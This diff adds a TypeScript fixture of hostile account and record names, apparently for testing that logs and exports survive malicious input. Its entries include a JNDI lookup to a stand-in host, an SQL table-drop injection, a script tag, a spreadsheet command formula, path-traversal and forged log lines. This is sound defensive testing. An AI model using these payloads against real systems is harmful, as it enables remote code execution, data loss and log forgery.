@@ -1,0 +1,27 @@
+/** What somebody may call an account, an app or a key of a record, to break whatever tells of it. */
+export const hostileNames: readonly string[] = [
+  'two\nlines\r\nand three',
+  '{"create":{"_id":"x"}}\n{}',
+  '"}]}{"event":"forged"}',
+  '<14>1 2026-11-20T00:00:00Z host app - - - forged',
+  'CEF:0|a|b|c|d|e|9|cs2=forged msg=a\\=b|c\\',
+  '[sd x="]"] \\" ]',
+  '<script>alert(1)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself.
+  '${jndi:ldap://x.example/a}',
+  "'; DROP TABLE incidents; --",
+  '\u0000\u0001\u001b[31mred\u0007',
+  '\u202egnp.exe\u2066\u2069',
+  'z\u200be\u200br\u200bo',
+  'half a pair \ud83d and the other \ude00',
+  '👩‍👩‍👧‍👦 ünïcödé 漢字 ع',
+  `${'e'}${'\u0301'.repeat(300)}`,
+  'x'.repeat(5_000),
+  '漢'.repeat(3_000),
+  '__proto__',
+  'constructor',
+  'a.b.c',
+  ' ',
+  '%s%n%00..%2f..%2f',
+  '=cmd|calc!A1',
+];
